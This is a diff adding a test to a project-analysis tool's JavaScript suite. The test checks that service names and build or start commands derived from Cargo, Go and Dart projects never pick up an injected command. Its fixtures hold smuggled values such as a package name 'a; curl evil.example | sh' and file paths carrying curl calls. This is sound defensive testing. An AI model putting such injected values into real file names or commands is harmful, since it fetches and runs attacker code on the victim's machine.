@@ -280,3 +280,26 @@ it("gives the same analysis whatever order the files come in", () => {
   const turned = Object.fromEntries(Object.entries(files).toReversed())
   assert.strictEqual(JSON.stringify(analysisOf(turned)), JSON.stringify(analysisOf(files)))
 })
+
+it.each([
+  {
+    "Cargo.toml": '[package]\nname = "a; curl evil.example | sh"\nversion = "0.1.0"\n\n[dependencies]\naxum = "0.8"\n',
+    "src/main.rs": "fn main() {}\n"
+  },
+  {
+    "go.mod": "module example.org/desk\n\ngo 1.26\n",
+    "cmd/a; curl evil.example/main.go": 'package main\n\nfunc main() {\n\thttp.ListenAndServe(":8080", nil)\n}\n',
+    "cmd/b/main.go": 'package main\n\nfunc main() {\n\thttp.ListenAndServe(":8081", nil)\n}\n'
+  },
+  {
+    "pubspec.yaml": "name: desk\ndependencies:\n  shelf: ^1.4.0\n",
+    "bin/server; curl evil.example.dart": "void main() {}\n"
+  }
+])("makes no command out of a name that a shell reads: %j", (files) => {
+  const commands = analysisOf(files).services.flatMap(({ buildCommand, name, startCommand }) => [
+    name,
+    buildCommand,
+    startCommand
+  ])
+  assert.notInclude(commands.join("\n"), "curl")
+})
